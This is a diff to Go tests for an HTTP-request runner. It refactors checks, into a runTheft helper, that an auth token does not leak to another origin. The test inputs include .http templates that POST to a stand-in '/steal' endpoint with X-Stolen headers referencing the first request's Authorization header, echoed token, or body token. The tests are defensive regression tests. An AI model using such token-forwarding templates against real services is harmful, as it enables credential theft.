@@ -234,15 +234,7 @@ func TestRunOriginLineMasksATokenInTheHostChild(t *testing.T) {
 func TestRunRequestReferenceCarriesNoToken(t *testing.T) {
 	es := newEchoServer(t)
 	other := newEchoServer(t)
-	h := newHarness(t)
-	cfg := h.writeConfig("k.toml", staticConfig("api", es.URL, "tok-secret-123", ""))
-	file := h.writeHTTP("t.http", "### first\n# @provider api\nGET /x\n\n### second\nPOST "+other.URL+"/steal\nX-Stolen: {{first.request.headers.Authorization}}\n\n{{first.request.headers.Authorization}}\n")
-	got := runBothSent(t, h, cfg, file, other)
-	for _, form := range attack.LeakForms("tok-secret-123") {
-		if strings.Contains(fmt.Sprint(got.Header)+got.Body, form) {
-			t.Fatalf("the token reached another origin: %v %q", got.Header, got.Body)
-		}
-	}
+	runTheft(t, es.URL, other, "### first\n# @provider api\nGET /x\n\n### second\nPOST "+other.URL+"/steal\nX-Stolen: {{first.request.headers.Authorization}}\n\n{{first.request.headers.Authorization}}\n")
 }
 
 // TestRunResponseReferenceCarriesNoEchoedToken: an API that echoes the
@@ -258,28 +250,29 @@ func TestRunResponseReferenceCarriesNoEchoedToken(t *testing.T) {
 	}))
 	t.Cleanup(api.Close)
 	other := newEchoServer(t)
-	h := newHarness(t)
-	cfg := h.writeConfig("k.toml", staticConfig("api", api.URL, "tok-secret-123", ""))
-	file := h.writeHTTP("t.http", "### first\n# @provider api\nGET /me\n\n# @capture stolen = body.seen\n\n### second\nPOST "+other.URL+"/steal/{{first.response.body.$.id}}\nX-Stolen: {{first.response.headers.X-Echo}}\nX-Captured: {{stolen}}\n\n{{first.response.body.$.seen}}\n")
-	got := runBothSent(t, h, cfg, file, other)
+	got := runTheft(t, api.URL, other, "### first\n# @provider api\nGET /me\n\n# @capture stolen = body.seen\n\n### second\nPOST "+other.URL+"/steal/{{first.response.body.$.id}}\nX-Stolen: {{first.response.headers.X-Echo}}\nX-Captured: {{stolen}}\n\n{{first.response.body.$.seen}}\n")
 	if got.RequestURI != "/steal/item-42" {
 		t.Errorf("the server's own value did not read as it came: %s", got.RequestURI)
 	}
-	for _, form := range attack.LeakForms("tok-secret-123") {
-		if strings.Contains(fmt.Sprint(got.Header)+got.Body, form) {
-			t.Fatalf("the echoed token reached another origin: %v %q", got.Header, got.Body)
-		}
-	}
 }
 
-// runBothSent runs file's two requests, the second to other, and returns
-// what other got.
-func runBothSent(t *testing.T, h *harness, cfg, file string, other *echoServer) *echoed {
+// runTheft runs a .http file whose first request goes to api, of the
+// provider "api" (its token tok-secret-123), and whose second tries to
+// take that token to other; it fails t if other got the token, in any of
+// its forms, and returns what other got.
+func runTheft(t *testing.T, api string, other *echoServer, file string) *echoed {
 	t.Helper()
-	h.run("--config", cfg, "run", file).expect(t, ExitOK, "both sent")
+	h := newHarness(t)
+	cfg := h.writeConfig("k.toml", staticConfig("api", api, "tok-secret-123", ""))
+	h.run("--config", cfg, "run", h.writeHTTP("t.http", file)).expect(t, ExitOK, "both sent")
 	got, n := other.lastRequest()
 	if n != 1 {
 		t.Fatalf("the other origin got %d requests, want 1", n)
+	}
+	for _, form := range attack.LeakForms("tok-secret-123") {
+		if strings.Contains(fmt.Sprint(got.Header)+got.Body, form) {
+			t.Fatalf("the token reached another origin: %v %q", got.Header, got.Body)
+		}
 	}
 	return got
 }
@@ -291,16 +284,8 @@ func runBothSent(t *testing.T, h *harness, cfg, file string, other *echoServer) 
 func TestRunRequestBodyReferenceCarriesNoToken(t *testing.T) {
 	es := newEchoServer(t)
 	other := newEchoServer(t)
-	h := newHarness(t)
-	cfg := h.writeConfig("k.toml", staticConfig("api", es.URL, "tok-secret-123", ""))
-	file := h.writeHTTP("t.http", "### first\nPOST "+es.URL+"/login\nContent-Type: application/json\n\n{\"user\": \"ann\", \"token\": \"{{$auth.token(\"api\")}}\"}\n\n"+
+	got := runTheft(t, es.URL, other, "### first\nPOST "+es.URL+"/login\nContent-Type: application/json\n\n{\"user\": \"ann\", \"token\": \"{{$auth.token(\"api\")}}\"}\n\n"+
 		"### second\nPOST "+other.URL+"/steal\nX-Stolen: {{first.request.body.$.token}}\n\n{{first.request.body.*}}\n")
-	got := runBothSent(t, h, cfg, file, other)
-	for _, form := range attack.LeakForms("tok-secret-123") {
-		if strings.Contains(fmt.Sprint(got.Header)+got.Body, form) {
-			t.Fatalf("the token reached another origin: %v %q", got.Header, got.Body)
-		}
-	}
 	if !strings.Contains(got.Body, `"user": "ann"`) {
 		t.Errorf("the rest of the body did not read as sent: %q", got.Body)
 	}
@@ -318,14 +303,6 @@ func TestRunEchoOfAnAuthTokenIsMasked(t *testing.T) {
 	}))
 	t.Cleanup(api.Close)
 	other := newEchoServer(t)
-	h := newHarness(t)
-	cfg := h.writeConfig("k.toml", staticConfig("api", api.URL, "tok-secret-123", ""))
-	file := h.writeHTTP("t.http", "### first\nGET "+api.URL+"/me\nAuthorization: Bearer {{$auth.token(\"api\")}}\n\n"+
+	runTheft(t, api.URL, other, "### first\nGET "+api.URL+"/me\nAuthorization: Bearer {{$auth.token(\"api\")}}\n\n"+
 		"### second\nPOST "+other.URL+"/steal\nX-Stolen: {{first.response.headers.X-Echo}}\n\n{{first.response.body.$.seen}}\n")
-	got := runBothSent(t, h, cfg, file, other)
-	for _, form := range attack.LeakForms("tok-secret-123") {
-		if strings.Contains(fmt.Sprint(got.Header)+got.Body, form) {
-			t.Fatalf("the echoed token reached another origin: %v %q", got.Header, got.Body)
-		}
-	}
 }
